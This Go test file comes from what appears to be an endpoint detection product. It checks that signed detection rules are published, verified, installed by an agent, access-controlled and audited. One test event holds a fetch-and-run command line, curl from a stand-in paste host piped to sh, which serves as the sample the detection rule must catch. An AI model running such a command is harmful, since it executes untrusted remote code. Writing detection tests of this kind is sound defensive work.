package cloud

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/herdsec/herd"
	"github.com/herdsec/herd/agent/rules"
	"github.com/herdsec/herd/agent/rules/bundle"
	"github.com/herdsec/herd/httpapi"
	"github.com/herdsec/herd/identity/pki"
)

// TestRulesEndToEnd: an operator publishes rules; an enrolled agent
// downloads the signed bundle, verifies it against its pinned CA, installs
// it, and its rules then match; a later publication replaces it; bad
// rules publish nothing; the publication is audited and needs the admin role.
func TestRulesEndToEnd(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	c, srv, ca := MustOpenTLSTest(t)
	admin := adminClient(t, srv.URL, ca)

	// The signer sits beside the CA, for rules only.
	signerPEM, err := os.ReadFile(filepath.Join(c.Data, "tls", pki.RuleSignerFile))
	if err != nil {
		t.Fatal(err)
	}
	signer, err := pki.ParseCertificatePEM(signerPEM)
	if err != nil || pki.CheckRuleSigner(signer) != nil || signer.CheckSignatureFrom(ca.Cert) != nil {
		t.Fatalf("rule signer certificate: %v", err)
	}

	lic := mustLicence(ctx, t, admin, 1, "", "")
	dev, err := enroll(ctx, t, srv.URL, ca, lic.Key, "machine-rules")
	if err != nil {
		t.Fatal(err)
	}
	agent := tlsClient(t, srv.URL, ca, &dev.pair)
	state := t.TempDir()
	os.MkdirAll(filepath.Join(state, "tls"), 0o700)
	if err := os.WriteFile(filepath.Join(state, bundle.CAPath), ca.CertPEM, 0o644); err != nil {
		t.Fatal(err)
	}

	// Nothing published yet.
	if _, err := bundle.Update(ctx, state, agent, time.Now()); herd.ErrorCode(err) != herd.ENOTFOUND {
		t.Fatalf("update before any publication: %v, want not found", err)
	}
	// Without a device certificate, no rules.
	if _, err := tlsClient(t, srv.URL, ca, nil).Rules(ctx); herd.ErrorCode(err) != herd.EUNAUTHORIZED {
		t.Fatalf("rules without a device certificate: %v", err)
	}

	// A set with one bad rule publishes nothing, and names the file.
	_, err = admin.PublishRules(ctx, []bundle.File{{Name: "paste.yml", YAML: bundle.ExampleRule}, {Name: "broken.yml", YAML: "title: Broken\nid: x\n"}})
	if herd.ErrorCode(err) != herd.EINVALID || !strings.Contains(err.Error(), "broken.yml: ") {
		t.Fatalf("publish with a bad rule: %v", err)
	}
	if _, err := admin.RulesSummary(ctx); herd.ErrorCode(err) != herd.ENOTFOUND {
		t.Fatalf("after a refused publication: %v, want not found", err)
	}

	// An analyst may read what is published, not publish.
	op, err := admin.CreateOperator(ctx, "ana", []string{"analyst"})
	if err != nil {
		t.Fatal(err)
	}
	ana := tlsClient(t, srv.URL, ca, nil)
	ana.Token = op.Token
	if _, err := ana.PublishRules(ctx, []bundle.File{{Name: "paste.yml", YAML: bundle.ExampleRule}}); herd.ErrorCode(err) != herd.EFORBIDDEN {
		t.Fatalf("analyst publishes: %v, want forbidden", err)
	}

	sum, err := admin.PublishRules(ctx, []bundle.File{{Name: "paste.yml", YAML: bundle.ExampleRule}})
	if err != nil || sum.Generation != 1 || len(sum.Rules) != 1 || sum.Rules[0].ID != "0f0e0d0c-0b0a-4908-8706-050403020100" || sum.Signer != pki.Serial(signer) {
		t.Fatalf("publish: %+v %v", sum, err)
	}
	if got, err := ana.RulesSummary(ctx); err != nil || got.SHA256 != sum.SHA256 || got.Generation != 1 {
		t.Fatalf("summary: %+v %v, want %+v", got, err, sum)
	}

	res, err := bundle.Update(ctx, state, agent, time.Now())
	if err != nil || !res.Installed || res.Bundle.Generation != 1 || res.Bundle.SHA256() != sum.SHA256 {
		t.Fatalf("agent update: %+v %v", res, err)
	}
	set, err := bundle.LoadInstalled(state)
	if err != nil {
		t.Fatal(err)
	}
	ev, err := rules.ParseEvent([]byte(`{"logsource":{"category":"process_creation"},"Image":"/usr/bin/curl","CommandLine":"curl -s https://pastebin.example/raw/x | sh"}`))
	if err != nil {
		t.Fatal(err)
	}
	if !matchesRule(ctx, t, set, ev, "0f0e0d0c-0b0a-4908-8706-050403020100") {
		t.Fatal("the published rule does not match on the agent")
	}

	// A new publication replaces the rule set whole.
	wget := strings.NewReplacer("Curl", "Wget", "/curl", "/wget", "0f0e0d0c", "1f0e0d0c").Replace(bundle.ExampleRule)
	if sum, err = admin.PublishRules(ctx, []bundle.File{{Name: "wget.yml", YAML: wget}}); err != nil || sum.Generation != 2 {
		t.Fatalf("second publication: %+v %v", sum, err)
	}
	if res, err = bundle.Update(ctx, state, agent, time.Now()); err != nil || !res.Installed || res.Previous != 1 {
		t.Fatalf("second update: %+v %v", res, err)
	}
	if set, err = bundle.LoadInstalled(state); err != nil || matchesRule(ctx, t, set, ev, "0f0e0d0c-0b0a-4908-8706-050403020100") {
		t.Fatalf("the withdrawn rule still matches (%v)", err)
	}

	// Audited under the operator.
	log, err := admin.AuditLog(ctx, 100)
	if err != nil {
		t.Fatal(err)
	}
	published := 0
	for _, e := range log.Entries {
		if e.Action == "POST /v1/admin/rules" && e.Operator == "admin" {
			published++
		}
	}
	if published != 3 { // the refused set, and two publications
		t.Fatalf("%d audited publications, want 3", published)
	}

	// The cloud restarted: the same signer, the same latest bundle.
	signer2, err := ca.RuleSigner(filepath.Join(c.Data, "tls"), time.Now())
	if err != nil || !signer2.Cert.Equal(signer) {
		t.Fatalf("signer after restart: %v", err)
	}
}

func matchesRule(ctx context.Context, t *testing.T, set *rules.Set, ev rules.Event, id string) bool {
	t.Helper()
	ms, err := set.Evaluate(ctx, ev)
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range ms {
		if m.RuleID == id {
			return true
		}
	}
	return false
}

// A cloud without a CA signs no rules, and says so.
func TestRulesWithoutCA(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	_, srv := MustOpenTest(t)
	c, err := httpapi.NewClient(srv.URL)
	if err != nil {
		t.Fatal(err)
	}
	c.Token = TestToken
	if _, err := c.PublishRules(ctx, []bundle.File{{Name: "paste.yml", YAML: bundle.ExampleRule}}); herd.ErrorCode(err) != herd.EUNAVAILABLE || !strings.Contains(err.Error(), "signs no rules") {
		t.Fatalf("publish without a CA: %v", err)
	}
}
